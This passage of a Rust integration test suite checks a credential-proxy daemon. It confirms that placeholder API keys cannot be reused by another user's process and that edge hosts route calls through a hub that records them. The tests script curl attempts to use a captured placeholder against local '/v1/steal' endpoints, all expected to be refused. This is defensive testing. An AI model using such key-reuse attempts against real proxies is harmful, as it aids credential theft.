    let d = Daemon::start(&up, &["--proxy-listen", &listen]);
    let cred = d.set_up(&up);
    let go = dir.path().join("go");
    // The child publishes its placeholder, then waits (bounded) while the stranger tries.
    let (run, ph) = d.held_run(&cred, dir.path(), "$ACME_API_KEY");
    assert!(ph.starts_with("shr_"));
    let as_stranger = |args: &[String]| {
        let o = stranger.command("curl").args(args).output().unwrap();
        String::from_utf8_lossy(&o.stdout).into_owned()
    };
    // The daemon's listener: the placeholder is the run's, the uid is not.
    let body = as_stranger(&[
        "-sS".into(),
        "-H".into(),
        format!("x-api-key: {ph}"),
        format!("http://{listen}/v1/proxy/demo/acme/prod/v1/steal"),
    ]);
    assert!(body.contains("\"denied\""), "{body}");
    // CONNECT with it: refused before any tunnel.
    let body = as_stranger(&[
        "-sS".into(),
        "-o".into(),
        "/dev/null".into(),
        "-w".into(),
        "%{http_code}".into(),
        "-x".into(),
        format!("http://scopehold:{ph}@{listen}"),
        "-k".into(),
        format!("https://localhost:{}/v1/steal", up.port),
    ]);
    assert!(!body.starts_with('2'), "{body}");
    assert!(
        up.seen.lock().unwrap().is_empty(),
        "a stranger's call reached the upstream"
    );
    let denied = d.wait_event("proxy_denied", |e| e["event"]["uid"] == stranger.uid);
    assert_eq!(denied["event"]["reason"], "not in the run's grants");
    std::fs::write(&go, "").unwrap();
    drop(run);

    // A run without a daemon listener relays its child's loopback connections: the relay
    // serves its own uid only.
    drop(d);
    let d = Daemon::start(&up, &[]);
    let cred = d.set_up(&up);
    let (run, line) = d.held_run(&cred, dir.path(), "$SCOPEHOLD_PROXY $ACME_API_KEY");
    let (relay, ph) = line.split_once(' ').unwrap();
    let o = stranger
        .command("curl")
        .args(["-sS", "-H", &format!("x-api-key: {ph}")])
        .arg(format!("{relay}/v1/proxy/demo/acme/prod/v1/steal"))
        .output()
        .unwrap();
    assert!(!o.status.success(), "the relay answered another uid");
    assert!(up.seen.lock().unwrap().is_empty());
    // The same request from the run's own uid goes through, so the refusal above is the uid's.
    let o = Command::new("curl")
        .args(["-sS", "-H", &format!("x-api-key: {ph}")])
        .arg(format!("{relay}/v1/proxy/demo/acme/prod/v1/mine"))
        .output()
        .unwrap();
    assert!(String::from_utf8_lossy(&o.stdout).contains("\"ok\":true"));
    std::fs::write(&go, "").unwrap();
    drop(run);
}

/// An edge of the hub `hub` (started with `--listen ADDR`), enrolled as host `name`: its
/// directory, socket, and process (killed when dropped).
fn edge_of(hub: &Daemon, addr: &str, name: &str) -> (tempfile::TempDir, PathBuf, PathBuf, Killed) {
    let token = hub.ok(&["--json", "host", "add", name]);
    let token: serde_json::Value = serde_json::from_str(token.trim()).unwrap();
    let token = token["token"].as_str().unwrap().to_string();
    let dir = tempfile::tempdir().unwrap();
    let (home, socket) = (dir.path().join("state"), dir.path().join("s.sock"));
    let child = Killed(
        bin()
            .arg("--home")
            .arg(&home)
            .arg("--socket")
            .arg(&socket)
            .args([
                "daemon",
                "--hub",
                &format!("https://{addr}"),
                "--join",
                &token,
            ])
            .stderr(std::fs::File::create(dir.path().join("edge.log")).unwrap())
            .spawn()
            .unwrap(),
    );
    for _ in 0..400 {
        if socket.exists() {
            break;
        }
        std::thread::sleep(Duration::from_millis(25));
    }
    assert!(socket.exists(), "the edge did not start");
    (dir, home, socket, child)
}

#[test]
fn on_an_edge_host_run_proxy_uses_the_key_through_the_hub_which_records_the_host() {
    let dir = tempfile::tempdir().unwrap();
    let up = upstream(dir.path());
    let addr = {
        let l = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
        format!("127.0.0.1:{}", l.local_addr().unwrap().port())
    };
    let hub = Daemon::start(&up, &["--listen", &addr]);
    let cred = hub.set_up(&up);
    let (_edir, ehome, esock, _edge) = edge_of(&hub, &addr, "ci-9");
    let out = dir.path().join("out");
    // On the edge's host: `run --proxy` against the edge's socket. The child gets a
    // placeholder and a base URL on a loopback relay of `run`'s, to the edge, to the hub,
    // which injects the key; the HTTP_PROXY form is refused there.
    let script = format!(
        r#"curl -s -H "x-api-key: $ACME_API_KEY" "$ACME_BASE_URL/v1/echo?from=edge" > {o}.ok
curl -s -x "$SCOPEHOLD_PROXY" -H "x-api-key: $ACME_API_KEY" http://localhost:{port}/x > {o}.abs
env > {o}.env"#,
        o = out.to_str().unwrap(),
        port = up.port
    );
    let o = bin()
        .arg("--home")
        .arg(&ehome)
        .arg("--socket")
        .arg(&esock)
        .args([
            "run",
            "--proxy",
            "--project",
            "demo",
            "--",
            "sh",
            "-c",
            &script,
        ])
        .env("SCOPEHOLD_TOKEN", &cred)
        .output()
        .unwrap();
    assert!(o.status.success(), "{}", String::from_utf8_lossy(&o.stderr));
    let ok = std::fs::read_to_string(format!("{}.ok", out.display())).unwrap();
    assert!(ok.contains("\"ok\":true"), "{ok}");
    let seen = up.seen.lock().unwrap().clone();
    assert_eq!(seen.len(), 1, "{seen:?}");
    assert_eq!(seen[0].api_key.as_deref(), Some(KEY));
    assert_eq!(seen[0].path, "/v1/echo?from=edge");
    let abs = std::fs::read_to_string(format!("{}.abs", out.display())).unwrap();
    assert!(abs.contains("not served through an edge"), "{abs}");
    let env = std::fs::read_to_string(format!("{}.env", out.display())).unwrap();
    assert!(!env.contains(KEY) && !env.contains(&cred), "{env}");
    // The hub recorded the run and the call with the host they came from.
    let call = hub.wait_event("proxy_call", |_| true);
    assert_eq!(call["event"]["from_host"], "ci-9", "{call}");
    let run = hub.wait_event("run_started", |_| true);
    assert_eq!(run["event"]["from_host"], "ci-9", "{run}");
    hub.wait_event("run_ended", |_| true);
}
